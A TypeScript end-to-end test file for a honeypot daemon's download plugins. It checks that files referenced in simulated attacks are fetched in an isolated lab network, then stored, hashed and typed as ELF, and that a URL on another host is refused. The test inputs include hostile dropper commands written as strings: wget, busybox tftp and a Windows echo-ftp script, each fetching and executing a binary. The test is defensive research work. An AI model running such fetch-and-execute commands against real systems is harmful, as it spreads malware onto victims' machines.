// Issue 6: the download plugins end to end. A honeypot namespace runs the
// daemon with url-extract and http-download, ftp-download and tftp-download,
// built and packed with honeytrap-plugin and installed as an operator installs
// them, and plugins.network.allowPrivate (the lab is 10.99.x.x). An attacker
// namespace serves x.bin, an ELF made here, over nginx, vsftpd and in.tftpd,
// and sends three attacks with ncat: `wget http://<attacker>/x.bin`,
// `tftp -g -r x.bin <attacker>` and a Windows echo-ftp script. Each ends with
// the file stored as an artifact (its bytes read back from the store once the
// daemon stopped), hashed (the four hashes checked against node:crypto) and
// typed ELF; a URL on another host is recorded as refused.
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AttackStore } from '../../core/src/store/attack-store.js';
import { runProgram, showAttack, type Attack } from '../lib/cli.js';
import { waitUntil } from '../lib/clients.js';
import { HoneytrapDaemon, REPO, cleanup, makeTempDir, testConfig } from '../lib/daemon.js';
import { Netns } from '../lib/netns.js';
import { requireTools } from '../lib/ns-clients.js';
import { startNginx, startTftpd, startVsftpd } from '../lib/peer-servers.js';
import { waitPluginsReady } from '../lib/plugin-daemon.js';

const HONEYPOT = '10.99.81.1';
const ATTACKER = '10.99.81.2';
const PORT = 23;
const SDK_BIN = join(REPO, 'sdk', 'bin', 'honeytrap-plugin.js');
const DOWNLOADERS = ['http-download', 'ftp-download', 'tftp-download'];
const PLUGINS = ['url-extract', ...DOWNLOADERS];

/** A 64-bit x86-64 ELF executable's header and random code bytes. */
const X_BIN = Buffer.concat([
  Buffer.from([
    0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0, 1, 0, 0, 0,
  ]),
  randomBytes(40_000),
]);

interface Finding {
  type: string;
  value: string;
  offset?: number;
  meta?: Record<string, string | number | boolean>;
}

interface Record_ {
  plugin: string;
  status: string;
  findings: Finding[];
  artifacts: { sha256: string; size: number; contentType: string; name?: string }[];
  error?: { code: string; message: string };
}

let net: Netns;
let daemon: HoneytrapDaemon;
let sourcePort = 41000;

/** Runs the SDK's command; fails with its output unless it exits 0. */
async function sdk(args: string[]): Promise<void> {
  const r = await runProgram(process.execPath, [SDK_BIN, ...args], { timeoutMs: 120_000 });
  if (r.code !== 0) throw new Error(`honeytrap-plugin ${args.join(' ')}: ${r.stdout}${r.stderr}`);
}

/**
 * The plugins as an operator installs them: each folder copied outside the
 * repository (so this test never writes into plugins/), built, packed, and
 * the archive extracted into `pluginsDir`.
 */
async function install(pluginsDir: string): Promise<void> {
  const src = await makeTempDir('honeytrap-downloads-src-');
  const packs = await makeTempDir('honeytrap-downloads-packs-');
  for (const name of PLUGINS) {
    const copy = join(src, name);
    await runProgram('cp', ['-r', join(REPO, 'plugins', name), copy]);
    await runProgram('rm', ['-rf', join(copy, 'dist'), join(copy, 'node_modules')]);
    await sdk(['build', copy]);
    await sdk(['pack', copy, '-o', packs]);
  }
  for (const tgz of await readdir(packs))
    await runProgram('tar', ['-xzf', join(packs, tgz), '-C', pluginsDir]);
}

/** Sends `data` from the attacker with ncat; returns the id of the attack the daemon stored. */
async function attack(data: string): Promise<string> {
  const port = ++sourcePort;
  const r = await net.exec(
    'at',
    ['ncat', '-p', String(port), '--send-only', HONEYPOT, String(PORT)],
    { input: data, timeoutMs: 15_000 },
  );
  if (r.code !== 0) throw new Error(`ncat exited ${r.code}: ${r.stderr}`);
  const line = await daemon.waitForLog(
    (l) => l.msg === 'attack' && l.remote === `${ATTACKER}:${port}`,
    15_000,
    `the attack from ${ATTACKER}:${port}`,
  );
  return String(line.attack);
}

/** The attack once `plugin` has a record on it. */
async function recordOf(id: string, plugin: string): Promise<Record_> {
  let last: Attack | undefined;
  await waitUntil(
    async () => {
      last = await showAttack(daemon.storeDir, id);
      return (last.plugins as Record<string, Record_> | undefined)?.[plugin] !== undefined;
    },
    30_000,
    `the ${plugin} record on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
  );
  return (last!.plugins as Record<string, Record_>)[plugin]!;
}

const sha256 = createHash('sha256').update(X_BIN).digest('hex');

/** The record has one ok download of `url`, hashed and typed, and x.bin as its artifact. */
function expectStored(r: Record_, url: string, via: string): void {
  expect(r.status, JSON.stringify(r)).toBe('ok');
  const downloads = r.findings.filter((f) => f.type === 'download');
  expect(downloads.map((f) => [f.value, f.meta?.status, f.meta?.via])).toEqual([[url, 'ok', via]]);
  const meta = downloads[0]!.meta!;
  for (const a of ['md5', 'sha1', 'sha256', 'sha512'])
    expect(meta[a], a).toBe(createHash(a).update(X_BIN).digest('hex'));
  expect(meta).toMatchObject({
    size: X_BIN.length,
    fileType: 'ELF',
    fileDescription: 'ELF 64-bit LSB executable, x86-64',
    contentType: 'application/x-elf',
    address: ATTACKER,
  });
  expect(r.artifacts).toEqual([
    { sha256, size: X_BIN.length, contentType: 'application/x-elf', name: 'x.bin' },
  ]);
}

beforeAll(async () => {
  requireTools(['nginx', 'vsftpd', 'in.tftpd', 'ncat', 'openssl']);
  net = Netns.create('downloads', ['hp', 'at']);
  net.link('hp', `${HONEYPOT}/24`, 'at', `${ATTACKER}/24`);
  const ftpRoot = await makeTempDir('hts-downloads-ftp-');
  const tftpRoot = await makeTempDir('hts-downloads-tftp-');
  await writeFile(join(ftpRoot, 'x.bin'), X_BIN);
  await writeFile(join(tftpRoot, 'x.bin'), X_BIN);
  await Promise.all([
    startNginx(net, 'at', ATTACKER, 'index\n', 80, { files: { 'x.bin': X_BIN } }),
    startVsftpd(net, 'at', { address: ATTACKER, root: ftpRoot }),
    startTftpd(net, 'at', ATTACKER, tftpRoot),
  ]);

  const tmp = await makeTempDir('honeytrap-downloads-');
  const pluginsDir = join(tmp, 'plugins');
  await mkdir(pluginsDir);
  await install(pluginsDir);
  daemon = await HoneytrapDaemon.start(
    (dir) => ({
      ...testConfig(dir, {
        ports: [{ port: PORT, template: '23_tcp' }],
        capture: { addresses: [HONEYPOT] },
      }),
      plugins: { dirs: [pluginsDir], network: { allowPrivate: true } },
    }),
    { netns: { net, node: 'hp' }, requireBound: true },
  );
  await waitPluginsReady(daemon, PLUGINS, 30_000);
}, 300_000);

afterAll(async () => {
  await cleanup();
  await net?.teardown();
});

/** sha256 of each attack's stored artifact, read back once the daemon stopped. */
const stored: string[] = [];

describe('an attack that points at a file on the attacker ends with the file stored, hashed and typed', () => {
  test('wget http://<attacker>/x.bin (http-download)', async () => {
    const id = await attack(`cd /tmp; wget http://${ATTACKER}/x.bin; chmod 777 x.bin; ./x.bin\r\n`);
    const r = await recordOf(id, 'http-download');
    expectStored(r, `http://${ATTACKER}/x.bin`, 'wget');
    expect(r.findings[0]!.meta).toMatchObject({ code: 200 });
    stored.push(r.artifacts[0]!.sha256);
  });

  test('tftp -g -r x.bin <attacker> (tftp-download)', async () => {
    const id = await attack(`cd /tmp; /bin/busybox tftp -g -r x.bin ${ATTACKER}; ./x.bin\r\n`);
    const r = await recordOf(id, 'tftp-download');
    expectStored(r, `tftp://${ATTACKER}/x.bin`, 'busybox tftp');
    expect(r.findings[0]!.meta).toMatchObject({ code: 0 });
    stored.push(r.artifacts[0]!.sha256);
  });

  test('a Windows echo-ftp script (ftp-download)', async () => {
    const id = await attack(
      `cmd /c echo open ${ATTACKER} 21 > o&echo user anonymous a@b.c >> o&echo binary >> o` +
        '&echo get x.bin >> o&echo bye >> o&ftp -n -s:o&x.bin\r\n',
    );
    const r = await recordOf(id, 'ftp-download');
    expectStored(r, `ftp://anonymous:a%40b.c@${ATTACKER}/x.bin`, 'ftp-script');
    expect(r.findings[0]!.meta).toMatchObject({ code: 226 });
    stored.push(r.artifacts[0]!.sha256);
  });

  test('a URL on another host is not fetched, and the attempt is recorded as refused', async () => {
    const id = await attack(`wget http://10.99.81.9/x.bin -O /tmp/x; /tmp/x\r\n`);
    const r = await recordOf(id, 'http-download');
    expect(r.findings).toMatchObject([
      {
        type: 'download',
        value: 'http://10.99.81.9/x.bin',
        meta: { status: 'refused', errorCode: 'HT_PLUGIN_DENIED', via: 'wget' },
      },
    ]);
    expect(r.findings[0]!.meta!.error).toContain('is not the attacking host');
    expect(r.artifacts).toEqual([]);
  });

  test('the stored bytes are x.bin (read from the store after the daemon stopped)', async () => {
    expect(stored).toEqual([sha256, sha256, sha256]);
    await daemon.stop('SIGTERM', 10_000);
    const store = await AttackStore.open(daemon.storeDir);
    try {
      const art = await store.getArtifact(sha256);
      expect(art?.data.equals(X_BIN)).toBe(true);
      expect(art?.meta).toMatchObject({ size: X_BIN.length, contentType: 'application/x-elf' });
    } finally {
      await store.close();
    }
  });
});
